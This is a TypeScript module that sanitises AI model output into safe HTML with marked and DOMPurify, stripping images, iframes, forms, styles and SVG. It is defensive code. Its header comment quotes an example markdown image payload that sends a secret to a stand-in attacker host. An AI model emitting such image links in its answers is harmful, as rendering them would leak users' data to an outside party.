/**
 * Model output → safe HTML. Markdown is rendered by marked and sanitised by DOMPurify; images
 * become plain links (a remote image is an exfiltration channel: `![x](https://evil/?q=SECRET)`
 * would send data the moment it renders), and anything that can load or run something —
 * iframes, forms, styles, srcset, SVG — is removed. The CSP blocks remote loads as well.
 */
import DOMPurify from 'dompurify';
import type { Token } from 'marked';
import { blocksToHtml, markdownToHtml } from './markdown-blocks';

const purifyConfig = {
  FORBID_TAGS: [
    'img',
    'picture',
    'source',
    'video',
    'audio',
    'iframe',
    'frame',
    'object',
    'embed',
    'form',
    'input',
    'button',
    'textarea',
    'select',
    'style',
    'link',
    'meta',
    'base',
    'svg',
    'math',
  ],
  FORBID_ATTR: ['style', 'srcset', 'src', 'background', 'poster', 'action', 'formaction', 'xlink:href'],
  ALLOWED_URI_REGEXP: /^(?:https?|mailto):/i,
};

DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    node.removeAttribute('target');
    node.setAttribute('rel', 'noreferrer noopener');
  }
});

export function renderMarkdown(markdown: string): string {
  return DOMPurify.sanitize(markdownToHtml(markdown), purifyConfig);
}

/** The same, as nodes ready to insert (saves serialising the sanitised tree and parsing it again). */
export function renderMarkdownFragment(markdown: string): DocumentFragment {
  return sanitizeToFragment(markdownToHtml(markdown));
}

/** Blocks of a streaming answer (see splitStreamingMarkdown), sanitised, as nodes. */
export function renderBlocksFragment(blocks: Token[]): DocumentFragment {
  return sanitizeToFragment(blocksToHtml(blocks));
}

function sanitizeToFragment(html: string): DocumentFragment {
  return DOMPurify.sanitize(html, { ...purifyConfig, RETURN_DOM_FRAGMENT: true });
}
